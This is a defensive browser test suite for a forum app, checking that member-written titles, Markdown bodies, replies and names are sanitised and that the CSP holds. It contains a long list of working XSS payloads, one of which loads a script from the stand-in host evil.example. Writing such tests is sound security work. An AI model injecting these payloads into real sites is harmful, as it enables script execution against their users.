import { testWebDir } from './build-web.js';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCommunity, buildMember, buildPost, buildReply } from '../test/factories.js';
import { setupTestApp, TEST_PASSWORD, type TestApp } from '../test/harness.js';
import { launchBrowser, screenshot } from './browser.js';
import { bell, signInThroughPage, visitor } from './flows.js';

/**
 * Known XSS payloads in everything members write (titles, Markdown bodies, replies, names), shown
 * wherever the app shows them. A payload that ran would set `window.__xss` or open a dialog. The
 * app has two defences — the server's Markdown sanitiser and the page's CSP — so every page is
 * checked twice: as people get it, and with the CSP switched off, where the sanitiser stands alone.
 */

let t: TestApp;
let url: string;
let browser: Browser;

const slug = 'xss-harbour';
const postWord = 'zanzibarite';
const replyWord = 'xylographer';
const probe = 'window.__xss=1;alert(document.domain)';

/** Raw HTML, broken tags and dangerous URLs, in Markdown and in HTML; each its own paragraph. */
const payloads = [
  `<script>${probe}</script>`,
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  `<img src=x onerror="${probe}">`,
  '<img src="x" onerror=window.__xss=1;confirm(1)//',
  `<svg onload="${probe}"><circle r="4"/></svg>`,
  `<svg><script>window.__xss=1;prompt(1)</script></svg>`,
  `<iframe src="javascript:${probe}"></iframe>`,
  '<iframe srcdoc="<script>parent.__xss=1;parent.alert(1)</script>"></iframe>',
  `<a href="javascript:${probe}">html javascript link</a>`,
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">html data link</a>',
  `<a href="https://example.org" onclick="${probe}">html link with onclick</a>`,
  `<a href="jav&#x09;ascript:${probe}">tab-split javascript link</a>`,
  `<div onmouseover="${probe}" style="padding:20px">hover the html div</div>`,
  `<details open ontoggle="${probe}"><summary>details</summary></details>`,
  `<input autofocus onfocus="${probe}">`,
  `<body onload="${probe}">`,
  `<object data="javascript:${probe}"></object>`,
  `<embed src="javascript:${probe}">`,
  `<form action="javascript:${probe}"><button>send the form</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${probe}"></style></mglyph></table></mtext></math>`,
  `<scr<script>ipt>${probe}</scr</script>ipt>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${probe}">`,
  `<base href="javascript:${probe}//">`,
  '<style>@import "javascript:window.__xss=1";</style>',
  '"><img src=x onerror=window.__xss=1;alert`1`>',
  '[markdown javascript link](javascript:window.__xss=1;alert`1`)',
  '[mixed case link](JaVaScRiPt:window.__xss=1)',
  '[entity link](javascript&#58;window.__xss=1)',
  '[escaped colon link](javascript\\:window.__xss=1)',
  '[spaced link](  javascript:window.__xss=1)',
  '[vbscript link](vbscript:msgbox(1))',
  '[markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[link with a title](https://example.org "x\\" onmouseover=\\"window.__xss=1")',
  '![image with onerror](x" onerror="window.__xss=1)',
  '![javascript image](javascript:window.__xss=1)',
  '![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<javascript:window.__xss=1>',
  '[reference link][evil]\n\n[evil]: javascript:window.__xss=1',
  '`<script>window.__xss=1</script>` in code',
  '```html\n<script>window.__xss=1;alert(1)</script>\n```',
  '| a | b |\n|---|---|\n| <img src=x onerror=window.__xss=1> | [cell](javascript:window.__xss=1) |',
  '> <img src=x onerror=window.__xss=1> in a quote',
].join('\n\n');

const titles = {
  question: `<script>window.__xss=1;alert('title')</script> ${postWord} <img src=x onerror=window.__xss=1>`,
  discussion: '"><svg onload=window.__xss=1;alert(1)> Second thread </title><script>alert(1)</script>',
};
const evilName = `Eve <img src=x onerror="window.__xss=1;alert('name')">`;

let viewer: { email: string; handle: string };
const postIds: Record<'question' | 'discussion', string> = { question: '', discussion: '' };

beforeAll(async () => {
  t = await setupTestApp();
  url = await t.listen(testWebDir);
  browser = await launchBrowser();

  const coordinator = await t.createUser({ name: 'Cora Coordinator' });
  const community = await buildCommunity(t, { createdBy: coordinator, name: 'XSS Harbour', slug });
  const signIn = async (name: string) => {
    const user = await t.createUser({ name });
    await buildMember(t, community, user);
    const client = t.client();
    const res = await client.post('/api/v1/auth/signin', { email: user.email, password: TEST_PASSWORD });
    if (res.status !== 200) throw new Error(`sign-in failed: ${res.status}`);
    return { user, client };
  };
  const vera = await signIn('Vera Viewer');
  const eve = await signIn(evilName);
  const max = await signIn('Max Mallory');
  viewer = vera.user;

  const question = await buildPost(t, community, vera, {
    kind: 'question',
    title: titles.question,
    body: `${postWord} <img src=x onerror="${probe}"> ${postWord}\n\n${payloads}`,
  });
  postIds.question = question.id;
  const answer = await buildReply(t, community, question, eve, {
    body: `@${vera.user.handle} <img src=x onerror=window.__xss=1> answer\n\n${payloads}`,
  });
  const threaded = await buildReply(t, community, question, max, {
    replyTo: answer.id,
    body: `A threaded reply.\n\n${payloads}`,
  });
  // Replying to a reply in a thread quotes it.
  await buildReply(t, community, question, eve, { replyTo: threaded.id, body: `Quoting you.\n\n${payloads}` });
  await buildReply(t, community, question, max, { body: `<svg onload=window.__xss=1>\n\n${payloads}` });
  const accepted = await vera.client.put(`/api/v1/communities/${slug}/posts/${question.id}/accepted`, {
    replyId: answer.id,
  });
  expect(accepted.status).toBe(200);

  const discussion = await buildPost(t, community, max, {
    kind: 'discussion',
    title: titles.discussion,
    body: payloads,
  });
  postIds.discussion = discussion.id;
  await buildReply(t, community, discussion, eve, {
    body: `${replyWord} <script>window.__xss=1</script> ${replyWord} <img src=x onerror=alert(1)>\n\n${payloads}`,
  });
});

afterAll(async () => {
  await browser?.close();
  await t?.close();
});

/** Everything in the page that could run a script, besides the app's own bundle. */
async function dangers(page: Page) {
  return page.evaluate(() => {
    const found: string[] = [];
    const w = window as unknown as { __xss?: unknown };
    if (w.__xss !== undefined) found.push(`window.__xss is ${String(w.__xss)}`);
    for (const s of document.querySelectorAll('script')) {
      if (!s.src || new URL(s.src).origin !== location.origin) found.push(`script: ${s.outerHTML.slice(0, 120)}`);
    }
    const urlAttrs = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background', 'poster'];
    for (const el of document.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        const name = attr.name.toLowerCase();
        if (name.startsWith('on')) found.push(`${el.tagName.toLowerCase()} has ${name}="${attr.value.slice(0, 60)}"`);
        // Browsers ignore tabs, newlines and control characters inside a scheme.
        const value = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        if (urlAttrs.includes(name) && /^(javascript|vbscript|data):/.test(value)) {
          found.push(`${el.tagName.toLowerCase()} ${name}="${attr.value.slice(0, 60)}"`);
        }
        if (name === 'srcdoc') found.push(`${el.tagName.toLowerCase()} has srcdoc`);
      }
    }
    // What members write may only become plain text markup: no embeds, forms, styles or pictures.
    const user = '.markdown, .cp-preview, .cp-snippet';
    for (const el of document.querySelectorAll(
      ['iframe', 'object', 'embed', 'svg', 'math', 'img', 'form', 'input', 'button', 'style', 'base', 'meta', 'details']
        .map((tag) => `:is(${user}) ${tag}`)
        .join(', '),
    )) {
      found.push(`<${el.tagName.toLowerCase()}> inside member content`);
    }
    for (const el of document.querySelectorAll('.cp-snippet *')) {
      if (el.tagName !== 'MARK') found.push(`<${el.tagName.toLowerCase()}> inside a search snippet`);
    }
    for (const el of document.querySelectorAll(`:is(${user}) [style]`)) {
      if (!/^text-align:\s*(left|right|center);?$/.test(el.getAttribute('style') ?? '')) {
        found.push(`style="${el.getAttribute('style')}" inside member content`);
      }
    }
    return found;
  });
}

/** Hovers and clicks every visible link in member content, staying on the page. */
async function poke(page: Page) {
  const links = page.locator('.markdown a, .cp-preview a, .cp-snippet a');
  const count = await links.count();
  for (let i = 0; i < count; i++) {
    const link = links.nth(i);
    if (!(await link.isVisible())) continue;
    await link.hover();
    const href = await link.getAttribute('href');
    if (href !== null && /^(https?:|mailto:|\/|#)/i.test(href)) {
      // A web or in-app link would take the page away: its click still runs any handler it carries,
      // but not the navigation. Any other kind of link (there should be none) is followed for real.
      await link.evaluate((a) => a.addEventListener('click', (e) => e.preventDefault(), { once: true }));
    }
    await link.click();
  }
  // The one payload that needs a pointer on it, had it become an element.
  const hoverMe = page.getByText('hover the html div').first();
  if (await hoverMe.isVisible()) await hoverMe.hover();
  return count;
}

describe.each([
  { mode: 'under the CSP', bypassCSP: false },
  { mode: 'with the CSP switched off', bypassCSP: true },
])('member content $mode', ({ bypassCSP }) => {
  it('shows every payload as text and runs none of them', async () => {
    const v = await visitor(browser, { bypassCSP });
    const origin = new URL(url).origin;
    // Nothing leaves the machine: a payload that reached the network would show up as an error here.
    const offsite: string[] = [];
    await v.context.route(
      (u) => u.origin !== origin,
      (route) => {
        offsite.push(route.request().url());
        return route.abort();
      },
    );
    const { page, problems } = v;
    const findings: string[] = [];
    let poked = 0;
    const check = async (where: string) => {
      poked += await poke(page);
      for (const d of await dangers(page)) findings.push(`${where}: ${d}`);
      // Give anything deferred (a focus, an error event, a timer) its chance to go off, then look again.
      await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => setTimeout(r, 50))));
      for (const d of await dangers(page)) findings.push(`${where} (later): ${d}`);
    };
    const label = bypassCSP ? 'nocsp' : 'csp';

    await signInThroughPage(page, url, viewer.email);

    // The question: title, body, the pinned accepted answer, a threaded reply with its quote.
    await page.goto(`${url}/c/${slug}/posts/${postIds.question}`);
    await page.getByRole('heading', { level: 1, name: titles.question }).waitFor();
    await page.getByRole('heading', { level: 2, name: 'Accepted answer' }).waitFor();
    await page.getByRole('heading', { level: 2, name: '4 replies' }).waitFor();
    expect(await page.locator('.markdown:not(.cp-preview)').count()).toBe(6);
    // The payloads are there, as text; the quote of the answer too.
    const body = page.locator('.cp-post .markdown');
    expect(await body.textContent()).toContain(`<script>${probe}</script>`);
    expect(await body.textContent()).toContain('<img src=x onerror=');
    expect(await page.locator('.cp-quote').textContent()).toContain('Max Mallory wrote:');
    await page.getByRole('link', { name: evilName }).first().waitFor();
    await page
      .getByRole('link', { name: `@${viewer.handle}` })
      .first()
      .waitFor();
    await screenshot(page, `xss-${label}-post`);
    await check('question page');

    // The reply box's preview of the same payloads.
    const composer = page.getByRole('form', { name: 'Your answer' });
    await composer.getByRole('textbox', { name: 'Your answer' }).fill(payloads);
    await composer.getByRole('tab', { name: 'Preview' }).click();
    await composer.locator('.cp-preview').getByText('hover the html div').waitFor();
    await check('reply preview');

    await page.goto(`${url}/c/${slug}/posts/${postIds.discussion}`);
    await page.getByRole('heading', { level: 1, name: titles.discussion }).waitFor();
    await page.getByRole('heading', { level: 2, name: '1 reply' }).waitFor();
    await check('discussion page');

    // The editor of the question, with its preview.
    await page.goto(`${url}/c/${slug}/posts/${postIds.question}/edit`);
    const title = page.getByRole('textbox', { name: /^Title/ });
    await title.waitFor();
    expect(await title.inputValue()).toBe(titles.question);
    await page.getByRole('tab', { name: 'Preview' }).click();
    await page.locator('.cp-preview').getByText('hover the html div').waitFor();
    await check('edit preview');

    // Lists: the community's conversations and the personal feed show titles and excerpts.
    await page.goto(`${url}/c/${slug}/posts`);
    await page.getByRole('link', { name: titles.question }).waitFor();
    await page.getByRole('link', { name: titles.discussion }).waitFor();
    await check('community feed');
    await page.goto(url);
    await page
      .getByRole('region', { name: 'From your communities' })
      .getByRole('link', { name: titles.question })
      .waitFor();
    await check('personal feed');

    // Search: snippets are the one place the app inserts server HTML outside Markdown.
    for (const [word, matched] of [
      [postWord, titles.question],
      [replyWord, titles.discussion],
    ] as const) {
      await page.goto(`${url}/search?q=${word}`);
      const hit = page
        .getByRole('list', { name: 'Search results' })
        .getByRole('listitem')
        .filter({ has: page.getByRole('link', { name: matched }) });
      await hit.waitFor();
      const snippet = hit.locator('.cp-snippet');
      expect((await snippet.locator('mark').allTextContents()).map((m) => m.toLowerCase())).toContain(word);
      expect(await snippet.textContent()).toMatch(/<(script|img)/);
      await screenshot(page, `xss-${label}-search-${word}`);
      await check(`search for ${word}`);
    }

    // Notifications name the actor (a payload) and the post (a payload).
    await page.goto(`${url}/notifications`);
    await page
      .getByRole('list', { name: 'Notifications' })
      .getByText(`${evilName} mentioned you in ${titles.question}`)
      .waitFor();
    await check('notifications page');
    await bell(page).click();
    await page
      .getByRole('menuitem')
      .filter({ hasText: `${evilName} mentioned you in` })
      .waitFor();
    await check('notification bell');
    await page.keyboard.press('Escape');

    expect(findings).toEqual([]);
    expect(poked).toBeGreaterThan(10);
    expect(offsite).toEqual([]);
    // watchPage: no dialog (alert, confirm, prompt), no page error, no console error.
    expect(problems).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    await v.context.close();
  });
});
